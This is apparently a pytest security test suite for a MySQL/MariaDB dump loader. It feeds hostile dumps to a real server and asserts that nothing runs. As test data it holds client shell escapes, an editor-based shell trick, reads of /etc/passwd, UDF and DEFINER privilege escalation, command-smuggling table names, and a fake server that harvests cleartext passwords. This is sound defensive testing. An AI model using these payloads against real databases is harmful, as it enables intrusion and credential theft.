"""What a hostile SQL dump wants of MySQL and MariaDB, through our loader, the real client and a real server."""

from __future__ import annotations

import os
import re
import secrets
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from pathlib import Path

import pytest

from app.archives.streams import from_bytes
from app.components.mysql import MysqlComponent
from app.components.mysql_client import Account, MysqlClient, MysqlTarget
from app.deployments.standalone import StandaloneDeployment
from app.errors import DatabaseAccessDenied, LoadFailed
from demo.servers import MariadbServer, mariadb_server
from tests import sampling
from tests.components.helpers import Context, MemorySafety, codes, collect

PASSWORD = "owner-pw"
END = b"-- Dump completed\n"


class Victim:
    """A database, its owner, a place where everybody may write, and a foreign server at the real one's port."""

    def __init__(self, server: MariadbServer, name: str, folder: Path, heard: list[bytes]) -> None:
        self.server = server
        self.folder = folder
        self.heard = heard
        owner, admin = Account(name, PASSWORD), Account("admin", server.admin_password)
        self.target = MysqlTarget(name, owner, admin, "127.0.0.1", server.port)

    @property
    def marker(self) -> Path:
        return self.folder / "marker"

    @property
    def client(self) -> MysqlClient:
        return MysqlClient(StandaloneDeployment(), self.target, self.target.owner)

    def component(self, *, admin: bool) -> MysqlComponent:
        target = self.target if admin else replace(self.target, admin=None)
        return MysqlComponent(StandaloneDeployment(), target)

    def unharmed(self) -> bool:
        """Nothing ran, nothing was written, nobody was called."""
        return not any(self.folder.iterdir()) and self.heard == []

    async def load(self, script: bytes) -> str:
        """The error, or nothing."""
        try:
            await self.client.load(from_bytes(script))
        except LoadFailed as error:
            return error.message
        return ""


@contextmanager
def foreign_server(port: int) -> Iterator[list[bytes]]:
    """Whoever connects is asked for the password in clear; what was said is kept."""
    heard: list[bytes] = []
    listening = socket.create_server(("127.0.0.2", port))
    greeting = (
        b"\x0a5.5.5-10.11.0-MariaDB\0" + bytes([1, 0, 0, 0]) + b"12345678\0\xff\xf7\x21\x02\x00\xff\x81\x15"
        + bytes(10) + b"123456789012\0mysql_clear_password\0"
    )  # fmt: skip

    def serve() -> None:
        with suppress(OSError):
            while True:
                connection, _ = listening.accept()
                heard.append(b"")
                with connection:
                    connection.settimeout(5)
                    connection.sendall(len(greeting).to_bytes(3, "little") + b"\0" + greeting)
                    heard[-1] = connection.recv(1 << 12)

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        yield heard
    finally:
        listening.shutdown(socket.SHUT_RDWR)
        listening.close()
        thread.join(10)


@pytest.fixture(scope="module")
def server() -> Iterator[MariadbServer]:
    with mariadb_server() as started:
        yield started


@pytest.fixture
def victim(server: MariadbServer) -> Iterator[Victim]:
    name = "v" + secrets.token_hex(4)
    server.run(
        f"CREATE DATABASE {name}; CREATE USER {name}@'127.0.0.1' IDENTIFIED BY '{PASSWORD}';"
        f"GRANT ALL ON {name}.* TO {name}@'127.0.0.1'"
    )
    folder = Path(tempfile.mkdtemp(prefix="liberu-attack-"))
    folder.chmod(0o777)
    with foreign_server(server.port) as heard:
        made = Victim(server, name, folder, heard)
        server.run("CREATE TABLE shop (id int, what text); INSERT INTO shop VALUES (1, 'as it was')", name)
        yield made
    shutil.rmtree(folder)
    server.run(f"DROP DATABASE {name}; DROP USER {name}@'127.0.0.1'")


def shell_by_editor(marker: Path) -> bytes:
    """The editor reads the rest of the dump as its keyboard."""
    padding = b"-- " + b"x" * 60 + b"\n"
    return b"\\e\n" + padding * 5000 + f"\n:!id > {marker}\n:q!\n".encode() * 3 + b"\n:q!\n" * 5 + END


@pytest.mark.parametrize("admin", [True, False])
async def test_a_dump_wants_a_root_shell(victim: Victim, admin: bool) -> None:
    component = victim.component(admin=admin)
    for script in (shell_by_editor(victim.marker), f"\\! id > {victim.marker}\n".encode() + END):
        context = Context(safety=MemorySafety(component.dump))
        with pytest.raises(LoadFailed):
            await component.restore(from_bytes(script), context.context, len(script))
        assert victim.unharmed()
        assert victim.server.run("SELECT what FROM shop", victim.target.name) == "as it was"


@pytest.mark.parametrize("admin", [True, False])
async def test_a_dump_wants_the_password(victim: Victim, admin: bool) -> None:
    """By a reconnect to a server of the attacker's, which asks for it in clear."""
    name = victim.target.name
    component = victim.component(admin=admin)
    for command in (f"\\r {name} 127.0.0.2", f"connect {name} 127.0.0.2", f"SELECT 1 \\r {name} 127.0.0.2"):
        script = f"{command}\nSELECT 1;\n".encode() + END
        context = Context(safety=MemorySafety(component.dump))
        with pytest.raises(LoadFailed):
            await component.restore(from_bytes(script), context.context, len(script))
        assert victim.unharmed()


#: Short names of the client's commands, and what might become one: all but \C and \N.
LETTERS = sorted({*"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ!.#?*-+/0123456789"} - {*"CN"})
NAMES = (
    "?", "clear", "connect", "ego", "edit", "exit", "go", "help", "nopager", "notee", "nowarning", "pager", "print",
    "prompt", "quit", "rehash", "source", "status", "system", "sandbox", "tee", "use", "warnings", "charset",
    "resetconnection", "query_attributes", "ssl_session_data_print", "costs", "binlog",
)  # fmt: skip
#: Where a command may stand; {} is it.
PLACES = (
    b"%b\n", b"SELECT 1 %b\n;\n", b"SELECT 1; %b\n", b"DELIMITER //\n%b\n", b"DELIMITER ;;\nSELECT 1;; %b\n;;\n",
    b"/*!50000 %b\n*/;\n", b"/*!50000 SELECT 1 %b */;\n", b"/* x */ %b\n", b"-- x\r%b\n", b"SELECT 1;\0%b\n",
    b"\xef\xbb\xbf%b\n", b" \t\r%b\r\n", b"\\C latin1\n%b\n", b"charset sjis;\n%b\n", b"SELECT '\\'; %b\n';\n%b\n",
)  # fmt: skip


async def test_a_dump_wants_any_command_of_the_client(victim: Victim) -> None:
    """A short one ends the script, or is a statement that the server refuses; in a comment it is one."""
    what = f"sh -c 'id > {victim.marker}'"
    for number, letter in enumerate(LETTERS):
        place = PLACES[number % 3]
        command = f"\\{letter} {what}".encode()
        assert await victim.load(place.replace(b"%b", command)), command
        assert victim.unharmed(), command
    for place in PLACES:
        for command in (f"\\! {what}".encode(), f"\\r {victim.target.name} 127.0.0.2".encode()):
            await victim.load(place.replace(b"%b", command))
            assert victim.unharmed(), (place, command)


async def test_a_dump_wants_a_command_by_its_name(victim: Victim) -> None:
    for number, name in enumerate(NAMES):
        what = f"{victim.target.name} 127.0.0.2" if name == "connect" else f"{victim.marker}"
        command = (f"{name} {what}", f"{name.upper()}\t{what};", f"  {name} {what}\r")[number % 3].encode()
        for place in PLACES[3 * (number % 2) : 3 * (number % 2) + 1]:
            assert await victim.load(place.replace(b"%b", command)), (place, command)
            assert victim.unharmed(), (place, command)


async def test_what_is_left_of_the_clients_commands_changes_nothing(victim: Victim) -> None:
    r"""\C and DELIMITER: nothing that they cut differently is a command. What follows is data of the server's."""
    marker = str(victim.marker).encode()
    for charset in (
        b"latin1",
        b"sjis",
        b"gbk",
        b"big5",
        b"cp932",
        b"gb2312",
        b"utf8mb4",
        b"../../" + marker,
        b"x" * 5000,
    ):
        script = b"\\C %b\nSELECT '\x81\\'; \\! id > %b\n';\n" % (charset, marker)
        await victim.load(script)
        assert victim.unharmed(), charset
    for delimiter in (b"!", b"\\", b"'", b"`", b"a" * 5000, b"id", b"\0", b"\x81\\", b""):
        script = b"DELIMITER %b\nSELECT 1 %b\\! id > %b\n%b" % (delimiter, delimiter, marker, delimiter)
        await victim.load(script)
        assert victim.unharmed(), delimiter
    assert await victim.load(b"\\C latin1\nINSERT INTO shop VALUES (2, 'caf\xe9');\n") == ""


#: What nobody but an administrator may do, as a dump would say it; {} is a file that everybody may write beside.
ADMINISTRATION = (
    "SET GLOBAL general_log = 1", "SET GLOBAL max_connections = 1", "SELECT 1 INTO OUTFILE '{}'",
    "SELECT 1 INTO DUMPFILE '{}'", "LOAD DATA INFILE '/etc/passwd' INTO TABLE shop (what)",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE shop (what)", "CREATE USER evil", "DROP USER admin@'127.0.0.1'",
    "GRANT ALL ON *.* TO CURRENT_USER()", "GRANT SELECT ON mysql.* TO CURRENT_USER()", "CREATE DATABASE evil",
    "CREATE TABLE mysql.evil (a int)", "CREATE TABLE {other}.evil (a int)", "INSERT INTO {other}.theirs VALUES (2)",
    "DROP TABLE {other}.theirs", "SELECT * FROM {other}.theirs", "HANDLER {other}.theirs OPEN",
    "SELECT * FROM mysql.global_priv", "INSTALL SONAME 'ha_spider'", "INSTALL PLUGIN evil SONAME 'ha_archive'",
    "CREATE FUNCTION evil RETURNS STRING SONAME 'lib_mysqludf_sys.so'",
    "CREATE SERVER evil FOREIGN DATA WRAPPER mysql OPTIONS (HOST '127.0.0.2')", "KILL {admin}",
    "SHUTDOWN", "FLUSH TABLES WITH READ LOCK", "PURGE BINARY LOGS TO 'x'",
    "SET ROLE admin", "SET SESSION sql_log_bin = 0", "SET PASSWORD FOR admin@'127.0.0.1' = PASSWORD('x')",
    "ALTER USER admin@'127.0.0.1' IDENTIFIED BY 'x'", "RENAME TABLE {other}.theirs TO mine",
    "TRUNCATE {other}.theirs",
    "CREATE VIEW mine AS SELECT * FROM {other}.theirs", "BACKUP STAGE START",
    "CREATE TABLE mine (a text) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='{}'",
)  # fmt: skip
#: Whose rights something is to have that is left behind for somebody else to touch.
DEFINERS = (
    "DEFINER=admin@'127.0.0.1'", "DEFINER = `admin`@`127.0.0.1`", "/*!50017 DEFINER=`admin`@`127.0.0.1`*/",
    "definer/**/=/**/'admin'@'127.0.0.1'", 'DEFINER="admin"@"127.0.0.1"', "/*M!50000 DEFINER=admin@127.0.0.1 */",
)  # fmt: skip
LEFT_BEHIND = (
    "CREATE {} VIEW mine AS SELECT * FROM {other}.theirs",
    "CREATE {} TRIGGER mine BEFORE INSERT ON shop FOR EACH ROW DELETE FROM {other}.theirs",
    "CREATE {} PROCEDURE mine() DELETE FROM {other}.theirs",
    "CREATE {} FUNCTION mine() RETURNS int RETURN (SELECT COUNT(*) FROM {other}.theirs)",
    "CREATE {} EVENT mine ON SCHEDULE EVERY 1 SECOND DO DELETE FROM {other}.theirs",
)


@pytest.fixture
def other(victim: Victim) -> Iterator[str]:
    """A neighbour's database."""
    name = f"other_{victim.target.name}"
    victim.server.run(f"CREATE DATABASE {name}; CREATE TABLE {name}.theirs AS SELECT 1 AS id")
    yield name
    victim.server.run(f"DROP DATABASE {name}")


@pytest.mark.parametrize("admin", [True, False])
async def test_a_dump_wants_what_is_outside_its_database(victim: Victim, other: str, admin: bool) -> None:
    """Through the whole restore: the loading account may do none of it, and what was live comes back."""
    component = victim.component(admin=admin)
    mine = victim.server.run("SELECT CONNECTION_ID()")
    places = {"{other}": other, "{admin}": mine, "{}": f"{victim.marker}"}
    for what in ADMINISTRATION[::6] if admin else ADMINISTRATION:
        statement = re.sub("|".join(places), lambda found: places[found[0]], what)
        script = f"CREATE TABLE shop (id int, what text);\n{statement};\n".encode() + END
        if not admin:
            assert await victim.load(f"{statement};\n".encode()), statement
        else:
            with pytest.raises(LoadFailed):
                await component.restore(from_bytes(script), Context().context, len(script))
        assert victim.unharmed(), statement
        assert victim.server.run(f"SELECT id FROM {other}.theirs") == "1", statement
        assert victim.server.run("SELECT what FROM shop", victim.target.name) == "as it was"


@pytest.mark.sweep
@pytest.mark.parametrize("admin", [True, False])
async def test_a_dump_wants_to_leave_something_that_an_administrator_runs(
    victim: Victim, other: str, admin: bool
) -> None:
    """Whoever a dump names as the definer: what it makes is its owner's, or it is refused."""
    component = victim.component(admin=admin)
    owner = f"{victim.target.name}@127.0.0.1"
    cases = [
        (what, definer)
        for number, what in enumerate(LEFT_BEHIND)
        for definer in (DEFINERS[number % 2 :: 2] if admin else DEFINERS)
    ]
    for what, definer in sampling.sampled(f"left behind {admin}", cases, 5 if admin else 10):
        statement = what.replace("{other}", other).replace("{}", definer)
        script = f"CREATE TABLE shop (id int);\n{statement};\n".encode() + END
        context = Context(safety=MemorySafety(component.dump))
        with suppress(LoadFailed):
            await component.restore(from_bytes(script), context.context, len(script))
        for table in ("VIEWS.TABLE", "TRIGGERS.TRIGGER", "ROUTINES.ROUTINE", "EVENTS.EVENT"):
            listed, _, column = table.partition(".")
            found = victim.server.run(
                f"SELECT DEFINER FROM information_schema.{listed} WHERE {column}_SCHEMA = '{victim.target.name}'"
            )
            assert found in ("", owner), statement
        assert victim.server.run(f"SELECT id FROM {other}.theirs") == "1", statement


async def test_the_loading_account_may_do_nothing_else(victim: Victim) -> None:
    """An owner with rights beyond its databases is no owner, whatever they are and however it got them."""
    name = victim.target.name
    who, component = f"{name}@'127.0.0.1'", victim.component(admin=False)
    server = victim.server
    everything = server.run("SELECT DISTINCT PRIVILEGE_TYPE FROM information_schema.USER_PRIVILEGES").split("\n")
    harmless = {"USAGE", "PROCESS", "SHOW DATABASES", "BINLOG MONITOR", "SLAVE MONITOR", "LOCK TABLES"}
    harmless |= {"CREATE TEMPORARY TABLES"}
    server.run(f"CREATE ROLE r_{name}; GRANT SELECT ON *.* TO r_{name}")
    try:
        given = [f"GRANT {right} ON *.* TO {who}" for right in everything if right != "USAGE"]
        given += [
            f"GRANT USAGE ON *.* TO {who} WITH GRANT OPTION", f"GRANT SELECT ON mysql.* TO {who}",
            f"GRANT INSERT ON mysql.event TO {who}", f"GRANT ALL ON `%`.* TO {who}",
            f"GRANT ALL ON `my_ql`.* TO {who}",
            f"GRANT r_{name} TO {who}", f"GRANT r_{name} TO {who}; SET DEFAULT ROLE r_{name} FOR {who}",
        ]  # fmt: skip
        for grant in given:
            server.run(grant)
            if grant.split(" ON ")[0].removeprefix("GRANT ") in harmless and "OPTION" not in grant:
                assert await component.preflight(Context().context, 0)
            else:
                with pytest.raises(DatabaseAccessDenied, match="administrator"):
                    await component.preflight(Context().context, 0)
            server.run(
                f"DROP USER {who}; CREATE USER {who} IDENTIFIED BY '{PASSWORD}'; GRANT ALL ON {name}.* TO {who};"
                f"GRANT ALL ON `{name}\\_%`.* TO {who}"
            )
            assert await component.preflight(Context().context, 0)
    finally:
        server.run(f"DROP ROLE r_{name}")


async def test_a_dump_wants_the_administrators_connection(victim: Victim) -> None:
    """Where one is configured it makes room and swaps; what is in the dump goes through others' connections alone."""
    canary = f"canary{secrets.token_hex(8)}"
    component = victim.component(admin=True)
    script = (
        f"-- {canary}\nCREATE TABLE shop (id int, what text, CHECK (what <> 'no {canary}'));\n"
        f"INSERT INTO shop VALUES (1, '{canary}');\nCREATE VIEW seen AS SELECT '{canary}';\nDELIMITER ;;\n"
        f"CREATE TRIGGER t BEFORE INSERT ON shop FOR EACH ROW SET NEW.what = '{canary}' ;;\n"
        f"CREATE PROCEDURE p() SELECT '{canary}' ;;\nDELIMITER ;\n"
        f"DELIMITER ;;\n/*!50106 CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO SELECT '{canary}' */ ;;\nDELIMITER ;\n"
    ).encode() + END
    victim.server.run("SET GLOBAL log_output = 'TABLE'; TRUNCATE mysql.general_log; SET GLOBAL general_log = 1")
    try:
        await component.restore(from_bytes(script), Context().context, len(script))
    finally:
        victim.server.run("SET GLOBAL general_log = 0")
    heard = victim.server.run(f"SELECT user_host FROM mysql.general_log WHERE argument LIKE '%{canary}%'").split("\n")
    assert any(who.startswith("liberu-") for who in heard)
    assert any(who.startswith(f"{victim.target.name}[") for who in heard)
    assert [who for who in heard if not who.startswith(("liberu-", f"{victim.target.name}["))] == []
    assert canary in victim.server.run("SELECT what FROM shop; CALL p()", victim.target.name)


async def test_a_dump_wants_to_name_a_table_as_a_command(victim: Victim) -> None:
    """Names come into our own scripts; the client sees names in them."""
    names = [
        "a\\! id",
        "b\nDELIMITER $$",
        "c\\e",
        "d`;\\! id",
        "e\r\n\\r x 127.0.0.2",
        "f -- \\! id",
        "g\u2028h",
        "\\",
    ]
    quoted = ["`" + name.replace("`", "``") + "`" for name in names]
    sql = "".join(
        f"CREATE TABLE {name} (id int); CREATE VIEW `v{name[1:]} AS SELECT id FROM {name};" for name in quoted
    )
    victim.server.run(sql, victim.target.name)
    for admin in (True, False):
        component = victim.component(admin=admin)
        content = await collect(await component.dump())
        context = Context(safety=MemorySafety(component.dump))
        report = await component.restore(from_bytes(content), context.context, len(content))
        assert (report.facts["tables"], report.facts["views"]) == (len(names) + 1, len(names))
        assert victim.unharmed()
    victim.server.run(f"DROP TABLE {quoted[0]}, {quoted[1]}", victim.target.name)
    dump = await victim.component(admin=False).dump()
    await collect(dump)
    assert codes(dump.report) == ["view_invalid"] * 2
    assert [warning.subject for warning in dump.report.warnings] == [f"v{name}" for name in names[:2]]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root")
async def test_a_tenant_wants_another_accounts_socket_login(victim: Victim) -> None:
    """Without a password the server believes who is at the socket: the client is whom its account is named after, and
    an account of nobody's name is nobody, not root."""
    name, server = victim.target.name, victim.server
    socket = Path(server.socket)
    socket.parent.chmod(0o755)
    for user in ("www-data", name, "root", "0"):
        server.run(f"CREATE OR REPLACE USER '{user}'@localhost IDENTIFIED VIA unix_socket")
        server.run(f"GRANT ALL ON {name}.* TO '{user}'@localhost")
    server.run("GRANT ALL ON *.* TO root@localhost WITH GRANT OPTION")
    here = replace(victim.target, host=None, port=None, socket=server.socket)
    theirs = replace(here, owner=Account("www-data"), admin=Account("root"))
    component = MysqlComponent(StandaloneDeployment(), theirs)
    content = await collect(await component.dump())
    await component.restore(from_bytes(content), Context().context, len(content))
    assert server.run("SELECT what FROM shop", name) == "as it was"
    for account in (Account(name), Account("0"), Account("0:0")):
        with pytest.raises(DatabaseAccessDenied):
            await MysqlComponent(StandaloneDeployment(), replace(here, owner=account, admin=None)).dump()
    as_root = MysqlClient(StandaloneDeployment(), here, Account("root"))
    with pytest.raises(DatabaseAccessDenied, match="as the system's root"):
        await as_root.load(from_bytes(b"SELECT 1;\n"))
    server.run(f"DROP USER 'www-data'@localhost, '0'@localhost, {name}@localhost")
